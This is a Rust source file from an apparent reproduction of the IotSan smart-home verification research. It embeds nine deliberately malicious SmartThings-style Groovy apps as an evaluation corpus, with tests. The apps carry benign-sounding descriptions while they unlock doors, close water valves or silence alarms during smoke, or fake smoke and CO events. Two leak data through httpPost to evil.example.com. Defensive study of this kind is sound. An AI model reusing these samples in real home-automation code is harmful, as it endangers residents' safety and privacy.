//! The malicious-app corpus.
//!
//! §10.1 evaluates attribution with 9 malicious apps from ContexIoT (Jia et
//! al., NDSS'17) that are relevant to IotSan's scope — apps that affect the
//! physical state, leak information through network interfaces, raise fake
//! events or disable other apps.  The original Groovy sources are not
//! redistributable, so each app is re-implemented here from the behaviour the
//! papers describe; every app drives the system into the same violation class
//! as its original.

use crate::market::MarketApp;

/// The nine malicious apps with the violation class each one triggers.
#[derive(Debug, Clone, PartialEq)]
pub struct MaliciousApp {
    /// The app itself.
    pub app: MarketApp,
    /// The violation class the app is designed to cause (used by tests and
    /// the reproduction harness to label results).
    pub expected_violation: &'static str,
}

/// The nine ContexIoT-style malicious apps.
pub fn malicious_apps() -> Vec<MaliciousApp> {
    vec![
        MaliciousApp {
            app: MarketApp { name: "Backdoor Pin Code".into(), source: BACKDOOR_PIN_CODE.into() },
            expected_violation: "unsafe physical state (door unlocked when no one is at home)",
        },
        MaliciousApp {
            app: MarketApp {
                name: "Fake Smoke Detector".into(),
                source: FAKE_SMOKE_DETECTOR.into(),
            },
            expected_violation: "security-sensitive command (fake event)",
        },
        MaliciousApp {
            app: MarketApp { name: "Fake CO Alarm".into(), source: FAKE_CO_ALARM.into() },
            expected_violation: "security-sensitive command (fake event + unsubscribe)",
        },
        MaliciousApp {
            app: MarketApp { name: "Leaky Presence".into(), source: LEAKY_PRESENCE.into() },
            expected_violation: "information leakage (httpPost)",
        },
        MaliciousApp {
            app: MarketApp { name: "Leaky Lock Codes".into(), source: LEAKY_LOCK_CODES.into() },
            expected_violation: "information leakage (httpPost)",
        },
        MaliciousApp {
            app: MarketApp {
                name: "Water Valve Saboteur".into(),
                source: WATER_VALVE_SABOTEUR.into(),
            },
            expected_violation: "unsafe physical state (water valve closed when smoke is detected)",
        },
        MaliciousApp {
            app: MarketApp { name: "Away Mode Unlocker".into(), source: AWAY_MODE_UNLOCKER.into() },
            expected_violation: "unsafe physical state (door unlocked in Away mode)",
        },
        MaliciousApp {
            app: MarketApp { name: "Alarm Silencer".into(), source: ALARM_SILENCER.into() },
            expected_violation: "unsafe physical state (alarm silenced during smoke)",
        },
        MaliciousApp {
            app: MarketApp { name: "Midnight Heater".into(), source: MIDNIGHT_HEATER.into() },
            expected_violation: "unsafe physical state (heater on when temperature is high)",
        },
    ]
}

/// Opens the door whenever motion stops — creating a break-in window while
/// nobody is home.
pub const BACKDOOR_PIN_CODE: &str = r#"
definition(name: "Backdoor Pin Code", namespace: "evil", author: "mallory",
    description: "Convenience unlocking for your smart lock.")
preferences {
    section("Lock") { input "lock1", "capability.lock" }
    section("Motion") { input "motionSensor", "capability.motionSensor" }
}
def installed() {
    subscribe(motionSensor, "motion.inactive", quietHandler)
}
def quietHandler(evt) {
    lock1.unlock()
}
"#;

/// Raises fake smoke events to trigger other apps' emergency behaviour.
pub const FAKE_SMOKE_DETECTOR: &str = r#"
definition(name: "Fake Smoke Detector", namespace: "evil", author: "mallory",
    description: "Enhanced smoke detection analytics.")
preferences {
    section("Smoke detector") { input "smokeSensor", "capability.smokeDetector" }
    section("Motion") { input "motionSensor", "capability.motionSensor" }
}
def installed() {
    subscribe(motionSensor, "motion.active", motionHandler)
}
def motionHandler(evt) {
    sendEvent(name: "smoke", value: "detected")
}
"#;

/// Fakes a carbon monoxide event and disables its own subscriptions so the
/// user cannot trace the behaviour.
pub const FAKE_CO_ALARM: &str = r#"
definition(name: "Fake CO Alarm", namespace: "evil", author: "mallory",
    description: "Carbon monoxide safety companion.")
preferences {
    section("CO detector") { input "coSensor", "capability.carbonMonoxideDetector" }
}
def installed() {
    subscribe(coSensor, "carbonMonoxide", coHandler)
}
def coHandler(evt) {
    sendEvent(name: "carbonMonoxide", value: "detected")
    unsubscribe()
}
"#;

/// Reports the family's presence status to an external server.
pub const LEAKY_PRESENCE: &str = r#"
definition(name: "Leaky Presence", namespace: "evil", author: "mallory",
    description: "Presence analytics for your household.")
preferences {
    section("Presence sensors") { input "people", "capability.presenceSensor", multiple: true }
}
def installed() {
    subscribe(people, "presence", presenceHandler)
}
def presenceHandler(evt) {
    httpPost("http://evil.example.com/track", evt.value)
}
"#;

/// Sends door lock state (and SMS to an attacker-controlled number) on every
/// lock event.
pub const LEAKY_LOCK_CODES: &str = r#"
definition(name: "Leaky Lock Codes", namespace: "evil", author: "mallory",
    description: "Lock usage statistics.")
preferences {
    section("Lock") { input "lock1", "capability.lock" }
}
def installed() {
    subscribe(lock1, "lock", lockHandler)
}
def lockHandler(evt) {
    httpPost("http://evil.example.com/locks", evt.value)
    sendSms("19998887777", "lock state: ${evt.value}")
}
"#;

/// Shuts the main water valve whenever smoke is detected — the fire-sprinkler
/// sabotage described in the paper (§10.3).
pub const WATER_VALVE_SABOTEUR: &str = r#"
definition(name: "Water Valve Saboteur", namespace: "evil", author: "mallory",
    description: "Protect your home from water damage during emergencies.")
preferences {
    section("Smoke detector") { input "smokeSensor", "capability.smokeDetector" }
    section("Water valve") { input "valve1", "capability.valve" }
}
def installed() {
    subscribe(smokeSensor, "smoke.detected", smokeHandler)
}
def smokeHandler(evt) {
    valve1.close()
}
"#;

/// Unlocks the main door as soon as the home switches to Away mode.
pub const AWAY_MODE_UNLOCKER: &str = r#"
definition(name: "Away Mode Unlocker", namespace: "evil", author: "mallory",
    description: "Let trusted visitors in while you are away.")
preferences {
    section("Lock") { input "lock1", "capability.lock" }
}
def installed() {
    subscribe(location, "mode", modeHandler)
}
def modeHandler(evt) {
    if (evt.value == "Away") {
        lock1.unlock()
    }
}
"#;

/// Turns the siren off whenever it starts sounding.
pub const ALARM_SILENCER: &str = r#"
definition(name: "Alarm Silencer", namespace: "evil", author: "mallory",
    description: "Avoid annoying false alarms.")
preferences {
    section("Alarm") { input "alarm1", "capability.alarm" }
    section("Smoke detector") { input "smokeSensor", "capability.smokeDetector" }
}
def installed() {
    subscribe(alarm1, "alarm", alarmHandler)
    subscribe(smokeSensor, "smoke.detected", smokeHandler)
}
def alarmHandler(evt) {
    if (evt.value != "off") {
        alarm1.off()
    }
}
def smokeHandler(evt) {
    alarm1.off()
}
"#;

/// Turns the heater on when the temperature is already high.
pub const MIDNIGHT_HEATER: &str = r#"
definition(name: "Midnight Heater", namespace: "evil", author: "mallory",
    description: "Keep your home cosy.")
preferences {
    section("Temperature sensor") { input "sensor", "capability.temperatureMeasurement" }
    section("Heater outlet") { input "heaterOutlet", "capability.switch" }
}
def installed() {
    subscribe(sensor, "temperature", temperatureHandler)
}
def temperatureHandler(evt) {
    if (evt.doubleValue > 85) {
        heaterOutlet.on()
    }
}
"#;

#[cfg(test)]
mod tests {
    use super::*;
    use iotsan_groovy::SmartApp;
    use iotsan_ir::{lower_app, IrStmt};

    #[test]
    fn there_are_nine_malicious_apps() {
        assert_eq!(malicious_apps().len(), 9);
    }

    #[test]
    fn every_malicious_app_parses_and_lowers() {
        for entry in malicious_apps() {
            let parsed = SmartApp::parse(&entry.app.source)
                .unwrap_or_else(|e| panic!("{} failed to parse: {e}", entry.app.name));
            let ir = lower_app(&parsed).unwrap();
            assert!(!ir.handlers.is_empty());
        }
    }

    #[test]
    fn malicious_behaviours_are_present_in_ir() {
        let by_name = |name: &str| {
            let entry = malicious_apps().into_iter().find(|a| a.app.name == name).unwrap();
            lower_app(&SmartApp::parse(&entry.app.source).unwrap()).unwrap()
        };
        // Every statement of the app's first handler, nested ones included.
        let stmts = |name: &str| {
            let mut out = Vec::new();
            for stmt in &by_name(name).handlers[0].body {
                stmt.walk(&mut |s| out.push(s.clone()));
            }
            out
        };
        let sensitive = |s: &IrStmt| matches!(s, IrStmt::Unsubscribe | IrStmt::SendEvent { .. });
        let network = |s: &IrStmt| matches!(s, IrStmt::HttpRequest { .. });
        assert!(stmts("Fake Smoke Detector").iter().any(sensitive));
        assert!(stmts("Fake CO Alarm").iter().any(sensitive));
        assert!(stmts("Leaky Presence").iter().any(network));
        assert!(stmts("Leaky Lock Codes").iter().any(network));
        assert!(stmts("Water Valve Saboteur").iter().any(|s| matches!(
            s,
            IrStmt::DeviceCommand { input, command, .. } if input == "valve1" && command == "close"
        )));
        assert!(stmts("Backdoor Pin Code").iter().any(|s| matches!(
            s,
            IrStmt::DeviceCommand { input, command, .. } if input == "lock1" && command == "unlock"
        )));
    }
}
